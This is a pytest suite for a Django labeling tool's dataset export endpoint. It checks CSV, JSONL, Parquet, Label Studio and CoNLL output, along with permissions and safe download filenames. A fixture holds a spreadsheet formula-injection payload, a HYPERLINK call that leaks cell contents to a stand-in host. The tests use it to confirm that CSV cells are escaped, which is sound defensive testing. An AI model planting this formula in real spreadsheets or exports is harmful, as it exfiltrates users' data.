"""Export of a dataset version: each format parsed back and compared with what is stored."""

import csv
import io
import json
import math
import uuid
from collections import Counter
from datetime import datetime

import pyarrow.parquet as pq
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from datasets.models import Item
from datasets.selectors import items_in_version
from labeling import exports, services
from labeling.exports.conll import bio_tags, tokenize
from labeling.exports.text_formats import FORMULA_TRIGGERS, escape_cell
from labeling.models import Annotation
from tests.factories import ProjectFactory, UserFactory, add_member
from tests.labeling.conftest import import_rows

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def submit(item: Item, user, value) -> Annotation:
    annotation, created = services.annotation_submit(item=item, user=user, request_uuid=uuid.uuid4(), value=value)
    assert created
    return annotation


def items_of(project) -> list[Item]:
    return list(Item.objects.filter(project=project).select_related("project").order_by("id"))


def consensus(values: list) -> tuple:
    """The final label an export gives an item nobody adjudicated: the majority unless it is a tie."""
    counts = Counter(json.dumps(value, sort_keys=True) for value in values)
    ranked = counts.most_common()
    if not ranked or (len(ranked) > 1 and ranked[0][1] == ranked[1][1]):
        return None, None
    return json.loads(ranked[0][0]), "consensus"


def url(project, number: int, export_format: str | None = None) -> str:
    query = f"?format={export_format}" if export_format else ""
    return f"/api/projects/{project.pk}/versions/{number}/export/{query}"


def download(client, project, number: int, export_format: str) -> bytes:
    response = client.get(url(project, number, export_format))
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content)


def stored(project, number: int) -> list[dict]:
    """What the database holds for the version, read through the models, not the exporter."""
    result = []
    for item in items_in_version(project=project, number=number).prefetch_related("annotations__annotator"):
        annotations = sorted(item.annotations.all(), key=lambda a: a.pk)
        result.append(
            {
                "id": item.pk,
                "external_id": item.external_id,
                "data": item.data,
                "metadata": item.metadata,
                "annotations": [
                    (a.annotator.username, a.value, a.revision, a.created_at, a.updated_at) for a in annotations
                ],
            }
        )
    return result


def unescape(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS) else cell


@pytest.fixture
def labeled(project, manager, annotators):
    """Version 1: five items, some labeled twice, one revised; version 2 adds two more."""
    import_rows(
        project,
        manager,
        [
            {"id": "t0", "text": "good movie", "note": "plain"},
            {"id": "=1+2", "text": HYPERLINK, "note": HYPERLINK},
            {"id": "t2", "text": "-5 stars\nand a second line, with a comma", "note": "@here"},
            {"id": "t3", "text": "+ plus", "note": "\tindented"},
            {"id": "t4", "text": "never labeled", "note": ""},
        ],
    )
    items = items_of(project)
    ann1, ann2 = annotators[:2]
    submit(items[0], ann1, "positive")
    submit(items[0], ann2, "negative")
    revised = submit(items[1], ann1, "neutral")
    services.annotation_revise(
        annotation=revised, user=ann1, value="positive", base_revision=1, request_uuid=uuid.uuid4()
    )
    submit(items[2], ann2, "negative")
    submit(items[3], ann1, "neutral")
    import_rows(project, manager, [{"id": "n1", "text": "new in two"}, {"id": "n2", "text": "also new"}], "b2.csv")
    submit(items_of(project)[5], ann1, "positive")
    return project


@pytest.fixture
def manager_client(manager, api_client):
    return api_client(manager)


def test_jsonl_holds_every_item_and_annotation_in_id_order(labeled, manager_client):
    lines = download(manager_client, labeled, 2, "jsonl").decode().splitlines()
    records = [json.loads(line) for line in lines]
    expected = stored(labeled, 2)
    assert [r["id"] for r in records] == [e["id"] for e in expected] == sorted(e["id"] for e in expected)
    for record, want in zip(records, expected, strict=True):
        assert set(record) == {
            "id", "external_id", "data", "metadata", "annotations", "final", "final_source", "source", "root",
            "augmentation", "split",
        }  # fmt: skip
        assert record["split"] is None  # not split yet
        assert (record["final"], record["final_source"]) == consensus([a[1] for a in want["annotations"]])
        assert (record["external_id"], record["data"], record["metadata"]) == (
            want["external_id"],
            want["data"],
            want["metadata"],
        )
        got = [
            (
                a["annotator"],
                a["value"],
                a["revision"],
                datetime.fromisoformat(a["created_at"]),
                datetime.fromisoformat(a["updated_at"]),
            )
            for a in record["annotations"]
        ]
        assert got == want["annotations"]
    revised = records[1]["annotations"][0]
    assert (revised["value"], revised["revision"]) == ("positive", 2)
    assert Annotation.objects.get(uuid=revised["uuid"]).revisions.count() == 2


def test_version_1_leaves_out_the_items_version_2_added(labeled, manager_client):
    v1 = [json.loads(line) for line in download(manager_client, labeled, 1, "jsonl").decode().splitlines()]
    v2 = [json.loads(line) for line in download(manager_client, labeled, 2, "jsonl").decode().splitlines()]
    assert [r["external_id"] for r in v1] == ["t0", "=1+2", "t2", "t3", "t4"]
    assert [r["external_id"] for r in v2] == ["t0", "=1+2", "t2", "t3", "t4", "n1", "n2"]
    assert v2[:5] == v1


def test_csv_round_trips_and_defuses_formulas(labeled, manager_client):
    body = download(manager_client, labeled, 2, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert list(rows[0]) == [
        "id", "external_id", "text", "metadata", "annotations", "labels", "final", "final_source",
        "source", "root", "augmentation", "split",
    ]  # fmt: skip
    expected = stored(labeled, 2)
    assert [int(row["id"]) for row in rows] == [e["id"] for e in expected]
    for row, want in zip(rows, expected, strict=True):
        for cell in row.values():
            assert not cell.startswith(FORMULA_TRIGGERS), cell
        assert unescape(row["external_id"]) == want["external_id"]
        assert unescape(row["text"]) == want["data"]["text"]
        assert json.loads(unescape(row["metadata"])) == want["metadata"]
        annotations = json.loads(unescape(row["annotations"]))
        assert [(a["annotator"], a["value"], a["revision"]) for a in annotations] == [
            a[:3] for a in want["annotations"]
        ]
        assert row["labels"] == "|".join(dict.fromkeys(a[1] for a in want["annotations"]))
        final, source = consensus([a[1] for a in want["annotations"]])
        assert (row["final"], row["final_source"]) == ("" if final is None else json.dumps(final), source or "")
    formula = rows[1]
    assert formula["text"] == "'" + HYPERLINK
    assert formula["external_id"] == "'=1+2"
    assert json.loads(formula["metadata"]) == {"note": HYPERLINK}  # JSON starts with "{": never a formula
    assert rows[0]["labels"] == "positive|negative"
    assert rows[2]["text"] == "'-5 stars\nand a second line, with a comma"
    assert rows[3]["text"] == "'+ plus"


def test_escape_cell_follows_owasp():
    assert [escape_cell(v) for v in ["=1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]] == [
        "'=1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [escape_cell(v) for v in ["", "a=1", "'=1", "{}", "1"]] == ["", "a=1", "'=1", "{}", "1"]


def test_parquet_round_trips_in_one_row_group_per_chunk(labeled, manager_client):
    body = download(manager_client, labeled, 2, "parquet")
    rows = pq.read_table(io.BytesIO(body)).to_pylist()
    expected = stored(labeled, 2)
    assert [row["id"] for row in rows] == [e["id"] for e in expected]
    for row, want in zip(rows, expected, strict=True):
        assert (row["external_id"], row["text"]) == (want["external_id"], want["data"]["text"])
        assert json.loads(row["metadata"]) == want["metadata"]
        got = [
            (a["annotator"], json.loads(a["value"]), a["revision"], a["created_at"], a["updated_at"])
            for a in row["annotations"]
        ]
        assert got == want["annotations"]
        assert row["labels"] == list(dict.fromkeys(a[1] for a in want["annotations"]))
        final, source = consensus([a[1] for a in want["annotations"]])
        assert (row["final"], row["final_source"]) == (None if final is None else json.dumps(final), source)

    streamed = list(exports.export_stream(project=labeled, number=2, export_format="parquet", chunk_size=2))
    assert len([part for part in streamed if part]) >= 4  # bytes leave as each chunk is written
    parquet = pq.ParquetFile(io.BytesIO(b"".join(streamed)))
    assert parquet.num_row_groups == math.ceil(len(expected) / 2)
    assert parquet.read().to_pylist() == rows


def test_a_small_chunk_size_changes_nothing_but_the_number_of_queries(labeled):
    for export_format in ("jsonl", "csv", "labelstudio"):
        whole = b"".join(exports.export_stream(project=labeled, number=2, export_format=export_format))
        with CaptureQueriesContext(connection) as queries:
            chunked = b"".join(
                exports.export_stream(project=labeled, number=2, export_format=export_format, chunk_size=3)
            )
        assert chunked == whole
        # Label Studio: the annotators' emails, and each chunk's gold answers and predictions.
        extra = 1 + 2 * math.ceil(7 / 3) if export_format == "labelstudio" else 0
        once = 1  # the version's batch ids, read before the items; then items, annotations and adjudications per chunk
        assert len(queries) == once + 3 * math.ceil(7 / 3) + extra


@pytest.fixture
def many_items(project, manager, annotators):
    def make(count: int, name: str):
        import_rows(project, manager, [{"text": f"{name} {n}"} for n in range(count)], f"{name}.csv")
        for item in items_of(project)[-count:]:
            submit(item, annotators[0], "positive")
            submit(item, annotators[1], "neutral")

    return make


def test_the_number_of_queries_does_not_grow_with_the_items(project, many_items, manager_client):
    def count(number: int) -> int:
        with CaptureQueriesContext(connection) as queries:
            download(manager_client, project, number, "jsonl")
        return len(queries)

    many_items(3, "few")
    few = count(1)
    many_items(60, "many")
    assert count(2) == few
    for export_format in exports.FORMATS:
        if export_format == "conll":
            continue
        with CaptureQueriesContext(connection) as queries:
            download(manager_client, project, 2, export_format)
        # Label Studio reads the annotators' emails, and each chunk's gold answers and predictions.
        allowed = few + 3 if export_format == "labelstudio" else few + 1
        assert len(queries) <= allowed, (export_format, [q["sql"] for q in queries])


def test_bounded_queries_whatever_the_format(project, many_items, manager_client, django_assert_max_num_queries):
    many_items(40, "items")
    # with the version's batch ids, read once before the items, and the chunk's gold answers and predictions
    with django_assert_max_num_queries(11):
        body = download(manager_client, project, 1, "labelstudio")
    assert len(json.loads(body)) == 40


# Label Studio ----------------------------------------------------------------------


def test_labelstudio_classification_tasks(labeled, manager_client, annotators):
    tasks = json.loads(download(manager_client, labeled, 2, "labelstudio"))
    expected = stored(labeled, 2)
    assert [task["id"] for task in tasks] == [e["id"] for e in expected]
    first = tasks[0]
    assert first["data"] == {"text": "good movie"}
    assert first["meta"] == {"external_id": "t0", "metadata": {"note": "plain"}, "split": None}
    assert [a["result"] for a in first["annotations"]] == [
        [
            {
                "id": a["result"][0]["id"],
                "type": "choices",
                "from_name": "label",
                "to_name": "text",
                "origin": "manual",
                "value": {"choices": [label]},
            }
        ]
        for a, label in zip(first["annotations"], ["positive", "negative"], strict=True)
    ]
    assert [a["completed_by"] for a in first["annotations"]] == [
        {"email": annotators[0].email, "username": "ann1"},
        {"email": annotators[1].email, "username": "ann2"},
    ]
    for task, want in zip(tasks, expected, strict=True):
        assert [datetime.fromisoformat(a["created_at"]) for a in task["annotations"]] == [
            a[3] for a in want["annotations"]
        ]
        assert all(a["was_cancelled"] is False for a in task["annotations"])
    assert tasks[4]["annotations"] == []


def test_labelstudio_multilabel_and_image(manager, annotators, api_client):
    multilabel = ProjectFactory(user=manager, name="Topics", task_type="multilabel", labels=["a", "b", "c"])
    add_member(multilabel, annotators[0], "annotator")
    import_rows(multilabel, manager, [{"text": "about a and c"}, {"text": "about nothing"}])
    first, second = items_of(multilabel)
    submit(first, annotators[0], ["c", "a"])
    submit(second, annotators[0], [])
    tasks = json.loads(download(api_client(manager), multilabel, 1, "labelstudio"))
    assert tasks[0]["annotations"][0]["result"][0]["value"] == {"choices": ["a", "c"]}
    assert tasks[0]["annotations"][0]["result"][0]["type"] == "choices"
    assert tasks[1]["annotations"][0]["result"] == []

    image = ProjectFactory(user=manager, name="Pets", task_type="image", labels=["cat", "dog"])
    import_rows(image, manager, [{"id": "p1", "image": "https://example.com/cat.png"}])
    submit(items_of(image)[0], annotators[0], "cat")
    task = json.loads(download(api_client(manager), image, 1, "labelstudio"))[0]
    assert task["data"] == {"image": "https://example.com/cat.png"}
    result = task["annotations"][0]["result"][0]
    assert (result["type"], result["to_name"], result["value"]) == ("choices", "image", {"choices": ["cat"]})


TEXT = "Ada Lovelace met  Charles Babbage in London."
SPANS_ANN1 = [
    {"start": 0, "end": 12, "label": "PER"},
    {"start": 18, "end": 33, "label": "PER"},
    {"start": 37, "end": 43, "label": "LOC"},
]
SPANS_ANN2 = [{"start": 37, "end": 43, "label": "LOC"}]


@pytest.fixture
def spans_project(manager, annotators):
    project = ProjectFactory(user=manager, name="People & places", task_type="spans", labels=["PER", "LOC"])
    import_rows(project, manager, [{"id": "s1", "text": TEXT}, {"id": "s2", "text": "Nobody here"}])
    first = items_of(project)[0]
    submit(first, annotators[0], SPANS_ANN1)
    submit(first, annotators[1], SPANS_ANN2)
    return project


def test_labelstudio_spans(spans_project, manager_client):
    task = json.loads(download(manager_client, spans_project, 1, "labelstudio"))[0]
    results = [a["result"] for a in task["annotations"]]
    assert [[(r["type"], r["from_name"], r["to_name"]) for r in result] for result in results] == [
        [("labels", "label", "text")] * 3,
        [("labels", "label", "text")],
    ]
    assert [r["value"] for r in results[0]] == [
        {"start": 0, "end": 12, "text": "Ada Lovelace", "labels": ["PER"]},
        {"start": 18, "end": 33, "text": "Charles Babbage", "labels": ["PER"]},
        {"start": 37, "end": 43, "text": "London", "labels": ["LOC"]},
    ]
    assert len({r["id"] for r in results[0]}) == 3


# CoNLL -----------------------------------------------------------------------------


def parse_conll(body: str) -> tuple[list[str], list[dict]]:
    lines = body.split("\n")
    assert lines[0].startswith("# columns = token start end")
    annotators = lines[0].split()[6:]
    blocks, current = [], None
    for line in lines[1:]:
        if line.startswith("# id = "):
            current = {"id": int(line.removeprefix("# id = ")), "tokens": []}
            blocks.append(current)
        elif line.startswith("# "):
            continue
        elif line:
            token, start, end, *tags = line.split("\t")
            assert len(tags) == len(annotators)
            current["tokens"].append((token, int(start), int(end), tags))
    return annotators, blocks


def spans_from_bio(tokens, column: int) -> list[dict]:
    spans = []
    for _, start, end, tags in tokens:
        tag = tags[column]
        if tag.startswith("B-"):
            spans.append({"start": start, "end": end, "label": tag[2:]})
        elif tag.startswith("I-"):
            assert spans and spans[-1]["label"] == tag[2:]
            spans[-1]["end"] = end
    return spans


def test_conll_bio_columns_per_annotator(spans_project, manager_client):
    body = download(manager_client, spans_project, 1, "conll").decode()
    annotators, blocks = parse_conll(body)
    assert annotators == ["ann1", "ann2"]
    first, second = items_of(spans_project)
    assert [block["id"] for block in blocks] == [first.pk, second.pk]
    assert f"# id = {first.pk}\n# external_id = s1\n" in body
    assert "\n\n# id = " in body  # items are separated by a blank line
    tokens = blocks[0]["tokens"]
    assert [t[0] for t in tokens] == TEXT.split()
    assert all(TEXT[start:end] == token for token, start, end, _ in tokens)
    assert [t[3] for t in tokens] == [
        ["B-PER", "O"],
        ["I-PER", "O"],
        ["O", "O"],
        ["B-PER", "O"],
        ["I-PER", "O"],
        ["O", "O"],
        ["B-LOC", "B-LOC"],
    ]
    stored_spans = {a.annotator.username: a.value for a in Annotation.objects.filter(item=first)}
    # "London." is one token: a span's tokens cover it whole, so its end moves to the token's end.
    assert spans_from_bio(tokens, 0) == [{**s, "end": 44} if s["label"] == "LOC" else s for s in SPANS_ANN1]
    assert stored_spans["ann1"] == SPANS_ANN1
    assert [t[3] for t in blocks[1]["tokens"]] == [["_", "_"], ["_", "_"]]  # nobody annotated it


def test_bio_tags_keep_the_first_of_overlapping_spans():
    tokens = tokenize("New York City hall")
    spans = [{"start": 4, "end": 13, "label": "B"}, {"start": 0, "end": 8, "label": "A"}]
    assert bio_tags(tokens, spans) == ["B-A", "I-A", "B-B", "O"]


def test_conll_is_for_span_projects_only(labeled, manager_client):
    response = manager_client.get(url(labeled, 1, "conll"))
    assert response.status_code == 400
    assert "spans" in response.json()["detail"]


# The endpoint ----------------------------------------------------------------------


def test_an_unknown_format_is_400_with_the_formats(labeled, manager_client):
    response = manager_client.get(url(labeled, 1, "xlsx"))
    assert response.status_code == 400
    assert response.json()["formats"] == ["jsonl", "csv", "parquet", "labelstudio", "conll"]
    assert "jsonl" in response.json()["detail"]


def test_without_a_format_it_is_jsonl(labeled, manager_client):
    response = manager_client.get(url(labeled, 1))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/x-ndjson")
    assert len(b"".join(response.streaming_content).splitlines()) == 5


@pytest.mark.parametrize(
    "export_format, content_type, filename",
    [
        ("jsonl", "application/x-ndjson; charset=utf-8", "sales-q3-x-v1.jsonl"),
        ("csv", "text/csv; charset=utf-8", "sales-q3-x-v1.csv"),
        ("parquet", "application/vnd.apache.parquet", "sales-q3-x-v1.parquet"),
        ("labelstudio", "application/json", "sales-q3-x-v1-labelstudio.json"),
    ],
)
def test_an_attachment_with_a_safe_name_and_its_content_type(
    manager, api_client, export_format, content_type, filename
):
    project = ProjectFactory(user=manager, name='Sales "Q3" / ../x\\')
    import_rows(project, manager, [{"text": "one"}])
    response = api_client(manager).get(url(project, 1, export_format))
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert "no-store" in response["Cache-Control"]


def test_a_name_with_nothing_ascii_falls_back_to_the_project_id(manager, api_client):
    project = ProjectFactory(user=manager, name="感情分析")
    import_rows(project, manager, [{"text": "one"}])
    response = api_client(manager).get(url(project, 1, "csv"))
    assert response["Content-Disposition"] == f'attachment; filename="project-{project.pk}-v1.csv"'


def test_reviewers_may_export_and_annotators_may_not(labeled, reviewer, annotator, api_client):
    assert api_client(reviewer).get(url(labeled, 1, "jsonl")).status_code == 200
    response = api_client(annotator).get(url(labeled, 1, "jsonl"))
    assert response.status_code == 403
    assert "detail" in response.json()


def test_other_projects_and_unknown_versions_are_404(labeled, manager, outsider, api_client):
    assert api_client(outsider).get(url(labeled, 1, "jsonl")).status_code == 404
    elsewhere = outsider.projects.get()
    assert api_client(manager).get(url(elsewhere, 1, "jsonl")).status_code == 404
    assert api_client(manager).get(url(labeled, 3, "jsonl")).status_code == 404
    assert api_client(manager).get("/api/projects/999999/versions/1/export/").status_code == 404


def test_anonymous_callers_are_refused(labeled, client):
    assert client.get(url(labeled, 1, "jsonl")).status_code in (401, 403)


def test_a_member_with_no_email_still_exports(labeled, manager_client):
    nameless = UserFactory(username="noemail", email="")
    add_member(labeled, nameless, "annotator")
    submit(items_of(labeled)[4], nameless, "neutral")
    task = json.loads(download(manager_client, labeled, 1, "labelstudio"))[4]
    assert task["annotations"][0]["completed_by"] == {"email": "", "username": "noemail"}
